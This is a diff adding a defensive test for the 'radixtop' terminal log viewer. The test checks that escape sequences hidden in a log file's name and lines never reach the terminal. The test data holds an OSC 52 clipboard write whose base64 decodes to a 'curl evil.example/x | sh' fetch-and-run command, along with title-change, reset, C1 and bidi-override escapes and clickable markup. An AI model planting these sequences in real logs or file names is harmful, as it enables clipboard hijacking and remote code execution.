@@ -7,6 +7,7 @@ import os
 import re
 import shutil
 import signal
+import subprocess
 import sys
 from pathlib import Path
 
@@ -103,3 +104,45 @@ def test_a_terminal_that_goes_away_leaves_no_radixtop_behind(tmp_path: Path, wha
     assert wait_for(lambda: all(incident_helpers.gone(p) for p in family), 20), [
         " ".join(psutil.Process(p).cmdline()) for p in family if not incident_helpers.gone(p)
     ]
+
+
+# What a log (or the process that names its log) may hold: a clipboard write and a title change
+# (OSC 52, OSC 2, ended by ST), a full reset and cursor saves (Fs/Fp escapes), the 8-bit C1 OSC,
+# a bidi override, and Textual markup that would be a clickable quit.
+HOSTILE = ("[@click=app.quit]CLICKQUIT[/] [/] \x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUveCB8IHNo\x1b\\\x1b]2;PWNED_TITLE\x1b\\ "
+           "reset \x1bc save \x1b7\x1b8 keypad \x1b= c1 \x9d2;C1_TITLE\x9c bidi \u202eevil\u202c")
+
+
+def test_escapes_in_a_log_files_name_and_lines_never_reach_the_terminal(tmp_path: Path) -> None:
+    """D2 and D6: the status line shows the file's name, the log pane and the evidence view (d)
+    its lines; none of them passes an escape, a C1 control or a bidi override to the terminal,
+    and none interprets markup."""
+    name = "sim\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUveCB8IHNo\x1b\\\x1b]2;PWNED_NAME\x1b\\.log"
+    log = tmp_path / name
+    log.write_text(LINES + f"[2026-12-02 14:00:02 TP0] RadixCacheError: Failed to lock memory page during dynamic prefix eviction {HOSTILE}\n"
+                   + "".join(f"[2026-12-02 14:00:03 TP0] after {i} {HOSTILE}\n" for i in range(3)))  # fmt: skip
+    raw = tmp_path / "raw.bin"
+    tmux = Tmux(160, 48)
+    try:
+        tmux.start(["sh", "-c", 'printf "\\033]2;BASELINE\\007"; exec "$0" "$@"', sys.executable, "-m", "radixtop",
+                    "--log", str(log), "--no-discover", "--no-gpu", "--from-start", "--readonly"], tmp_path)  # fmt: skip
+        tmux("set", "-g", "set-clipboard", "on")
+        tmux("pipe-pane", "-t", "radixtop", "-o", f"cat > {raw}")
+        screen = tmux.wait_for(lambda s: "after 2" in s and "Findings (1)" in s, "the hostile lines on screen", 30)
+        assert "[@click=app.quit]CLICKQUIT" in screen  # shown as text, not taken as markup
+        tmux.send("Tab")
+        tmux.send("d")
+        tmux.wait_for(lambda s: "Finding (Esc closes)" in s, "the evidence view", 10)
+        tmux.send("End")
+        tmux.wait_for(lambda s: "after 2" in s and "Finding (Esc closes)" in s, "the evidence's last lines", 10)
+        tmux.send("Escape")
+        title = tmux("display", "-p", "-t", "radixtop", "#{pane_title}").strip()
+        buffers = subprocess.run(["tmux", "-L", tmux.socket, "list-buffers"], capture_output=True, text=True,
+                                 timeout=10).stdout  # fmt: skip
+        written = raw.read_bytes()
+    finally:
+        tmux.kill()
+    assert "PWNED" not in title and "C1_TITLE" not in title, title
+    assert buffers.strip() == "", buffers
+    for sequence in (b"\x1b]52", b"\x1b]2;", b"\x1bc", b"\x1b7", b"\x1b=", b"\xc2\x9d", "\u202e".encode()):
+        assert sequence not in written, sequence
